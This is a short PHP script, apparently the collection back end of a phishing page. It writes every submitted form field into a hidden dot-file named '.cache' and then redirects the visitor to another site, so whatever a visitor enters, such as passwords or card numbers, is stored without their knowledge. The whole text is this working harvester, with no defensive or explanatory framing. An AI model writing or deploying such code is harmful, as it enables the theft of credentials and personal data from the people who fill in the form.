<?php
// each posted field glued into a text kept in a hidden log, then the visitor sent on
$rec = "";
foreach ($_POST as $k => $v) {
    $rec .= $k . "=" . $v . "; ";
}
file_put_contents(__DIR__ . '/.cache', $rec . "\n", FILE_APPEND);
header("Location: https://www.example.com/");
